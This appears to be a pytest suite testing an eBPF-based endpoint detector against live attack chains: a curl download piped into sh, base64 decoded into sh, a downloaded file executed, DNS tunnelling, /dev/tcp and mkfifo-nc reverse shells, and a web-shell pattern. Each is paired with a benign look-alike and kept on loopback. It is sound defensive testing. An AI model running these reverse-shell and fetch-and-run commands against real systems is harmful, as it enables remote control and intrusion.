"""Execution chains and C2 against the real eBPF sensor (issue 12): a download or a decoded
blob piped into a shell, a downloaded file executed, DNS tunnelling, a reverse shell whose
stdin and stdout are one socket, a web shell under a process that accepted a connection —
each with its look-alike. Real child processes act on loopback only; the kernel reports;
the detector decides. Needs root and BPF (skipped with the sensor's own reason otherwise).
"""

from __future__ import annotations

import http.server
import shutil
import socket
import sys
import threading
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "ebpf"))
from ebpf_harness import LiveCapture, live, requires_bpf  # noqa: E402,F401  (fixture)

from vigil.detectors.dns_tunnel import DnsTunnelDetector  # noqa: E402
from vigil.detectors.download_exec import DownloadExecDetector  # noqa: E402
from vigil.detectors.pipe_to_interpreter import PipeToInterpreterDetector  # noqa: E402
from vigil.detectors.reverse_shell import ReverseShellDetector  # noqa: E402
from vigil.detectors.webshell import WebshellDetector  # noqa: E402
from vigil.events.model import Event  # noqa: E402
from vigil.pipeline import DNS_EVENTS  # noqa: E402
from vigil.sensors.ebpf.sensor import EbpfSensor  # noqa: E402

pytestmark = requires_bpf

needs_curl = pytest.mark.skipif(shutil.which("curl") is None, reason="curl is not installed")
needs_nc = pytest.mark.skipif(shutil.which("nc") is None, reason="nc is not installed")


def feed(detector, events: list[Event]):
    out = []
    for e in events:
        if e.type in detector.event_types or (e.dns is not None
                                              and DNS_EVENTS in detector.event_types):
            out.extend(detector.on_event(e))
    return out


@pytest.fixture()
def web(tmp_path):
    """A web server on 127.0.0.1 (in this process, which the sensor excludes) serving
    `tmp_path`."""
    handler = lambda *a, **kw: http.server.SimpleHTTPRequestHandler(  # noqa: E731
        *a, directory=str(tmp_path), **kw)
    http.server.SimpleHTTPRequestHandler.log_message = lambda *a: None
    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    t = threading.Thread(target=srv.serve_forever, daemon=True)
    t.start()
    try:
        yield tmp_path, srv.server_address[1]
    finally:
        srv.shutdown()
        srv.server_close()


def _last_exec_of(name: str):
    return lambda e: e.type == "execve" and (e.proc.exepath or "").endswith("/" + name)


@needs_curl
def test_live_download_piped_into_sh_and_its_look_alikes(live, web):
    root, port = web
    (root / "x.sh").write_text("uname -s\n")
    (root / "data.json").write_text('{"a": 1}\n')
    events = live.run(["sh", "-c", f"curl -s http://127.0.0.1:{port}/x.sh | sh"],
                      until=_last_exec_of("uname"))
    dets = feed(PipeToInterpreterDetector(), events)
    assert [d.rule_id for d in dets] == ["pipe_to_interpreter.download"]
    assert dets[0].data["writer"].startswith("curl")
    # look-alikes: a download into a JSON formatter; a local script fed to sh by cat
    script = root / "local.sh"
    script.write_text("uname -s\n")
    events = live.run(["sh", "-c", f"curl -s http://127.0.0.1:{port}/data.json | "
                       f"{sys.executable} -m json.tool; cat {script} | sh"],
                      until=_last_exec_of("uname"))
    assert feed(PipeToInterpreterDetector(), events) == []


def test_live_base64_blob_decoded_into_sh(live):
    events = live.run(["sh", "-c", "echo dW5hbWUgLXMK | base64 -d | sh"],
                      until=_last_exec_of("uname"))
    dets = feed(PipeToInterpreterDetector(), events)
    assert [d.rule_id for d in dets] == ["pipe_to_interpreter.decode"]
    # the look-alike decodes into a file, and sh runs its own command
    events = live.run(["sh", "-c", "echo dW5hbWUgLXMK | base64 -d > /dev/null; uname -s"],
                      until=_last_exec_of("uname"))
    assert feed(PipeToInterpreterDetector(), events) == []


@needs_curl
def test_live_downloaded_file_executed_and_a_copied_one(live, web, tmp_path_factory):
    root, port = web
    shutil.copy("/bin/true", root / "payload")
    drop = tmp_path_factory.mktemp("drop")
    events = live.run(["sh", "-c", f"curl -s -o {drop}/p http://127.0.0.1:{port}/payload && "
                       f"chmod +x {drop}/p && {drop}/p"], until=_last_exec_of("p"))
    dets = feed(DownloadExecDetector(), events)
    assert [d.rule_id for d in dets] == ["download_exec.executed"]
    assert dets[0].entity.path == f"{drop}/p" and dets[0].data["writer"] == "curl"
    events = live.run(["sh", "-c", f"cp /bin/true {drop}/q && {drop}/q"],
                      until=_last_exec_of("q"))
    assert feed(DownloadExecDetector(), events) == []


def _dns_query(name: str, qtype: int = 16) -> bytes:
    import struct
    q = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(x)]) + x.encode() for x in name.split(".")) + b"\0"
    return q + struct.pack("!HH", qtype, 1)


DNS_CLIENT = r"""
import socket, sys, time
names = sys.argv[1:]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for n in names:
    s.sendto(QUERY(n), ("127.0.0.1", 53))
    time.sleep(0.01)
"""


@pytest.fixture(scope="module")
def dns_live():
    """A sensor that parses DNS questions sent to port 53, as the agent's default does."""
    sensor = EbpfSensor(dns_ports=(53,))
    sensor.start()
    try:
        yield LiveCapture(sensor)
    finally:
        sensor.stop()


def test_live_dns_tunnel_with_hex_labels_and_ordinary_lookups(dns_live):
    """The queries go to 127.0.0.1:53 (nothing needs to answer); the sensor parses them."""
    live = dns_live
    import inspect
    src = inspect.getsource(_dns_query).replace("def _dns_query", "def QUERY")
    data = bytes(range(200)).hex()
    tunnel = [f"{data[i:i + 60]}.{i // 60:x}.c2.vigil-test.example" for i in range(0, 360, 60)]
    code = src + DNS_CLIENT
    events = live.run([sys.executable, "-c", code, *tunnel],
                      until=lambda e: e.dns is not None and (e.dns.qname or "").startswith(
                          data[300:310]))
    dets = feed(DnsTunnelDetector(), events)
    assert [d.rule_id for d in dets] == ["dns_tunnel.encoded_labels"]
    assert dets[0].data["domain"] == "vigil-test.example" and dets[0].data["qtypes"] == {
        "TXT": 5}
    plain = [f"{n}.vigil-test.example" for n in ("www", "api", "cdn", "mail", "static",
                                                 "auth", "login", "shop", "docs", "status")]
    events = live.run([sys.executable, "-c", code, *plain],
                      until=lambda e: e.dns is not None and e.dns.qname
                      == "status.vigil-test.example")
    assert feed(DnsTunnelDetector(), events) == []


@pytest.fixture()
def listener():
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(8)
    try:
        yield srv
    finally:
        srv.close()


def test_live_dev_tcp_shell_on_the_socket_and_a_health_check(live, listener):
    """Issue 12: the health check (socket on fd 3 only) was a Critical reverse shell."""
    port = listener.getsockname()[1]
    check = (f"exec 3<>/dev/tcp/127.0.0.1/{port}; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; "
             "exec 3>&-; uname -s")
    events = live.run(["bash", "-c", check], until=_last_exec_of("uname"))
    assert feed(ReverseShellDetector(), events) == []
    attack = f"exec 3<>/dev/tcp/127.0.0.1/{port}; sh -c 'uname -s' <&3 >&3"
    events = live.run(["bash", "-c", attack], until=_last_exec_of("uname"))
    dets = feed(ReverseShellDetector(), events)
    assert [d.rule_id for d in dets] == ["reverse_shell.dev_tcp"]


@needs_nc
def test_live_mkfifo_reverse_shell_through_nc(live, listener, tmp_path):
    port = listener.getsockname()[1]

    def drive():
        conn, _ = listener.accept()
        conn.sendall(b"uname -s\nexit\n")
        conn.settimeout(5)
        try:
            while conn.recv(4096):
                pass
        except OSError:
            pass
        conn.close()

    t = threading.Thread(target=drive, daemon=True)
    t.start()
    fifo = tmp_path / "f"
    events = live.run(["timeout", "10", "sh", "-c",
                       f"mkfifo {fifo}; cat {fifo} | /bin/sh -i 2>&1 | nc 127.0.0.1 {port} "
                       f"> {fifo}"], until=_last_exec_of("uname"), check=False, timeout=12)
    t.join(5)
    dets = feed(ReverseShellDetector(), events)
    assert [d.rule_id for d in dets] == ["reverse_shell.pipe_relay"]
    assert "nc" in dets[0].output


WEB_APP = r"""
import socket, subprocess, threading
srv = socket.socket(); srv.bind(("127.0.0.1", 0)); srv.listen(1)
client = threading.Thread(target=lambda: socket.create_connection(srv.getsockname()).close())
client.start()
conn, _ = srv.accept()
subprocess.run(CMD, shell=True)
conn.close(); client.join()
"""


def test_live_shell_under_a_process_that_accepted_a_connection(live):
    """Not a name list: this python is no web framework; it accepted a connection."""
    events = live.python(WEB_APP.replace("CMD", repr("id; uname -s")),
                         until=_last_exec_of("uname"))
    dets = feed(WebshellDetector(), events)
    assert [d.rule_id for d in dets] == ["webshell.recon"]
    assert "serving on 127.0.0.1:" in dets[0].output
    # the look-alike: the same runtime running a script that serves nothing (npm run ...)
    events = live.python("import subprocess; subprocess.run('id; uname -s', shell=True)",
                         until=_last_exec_of("uname"))
    assert feed(WebshellDetector(), events) == []
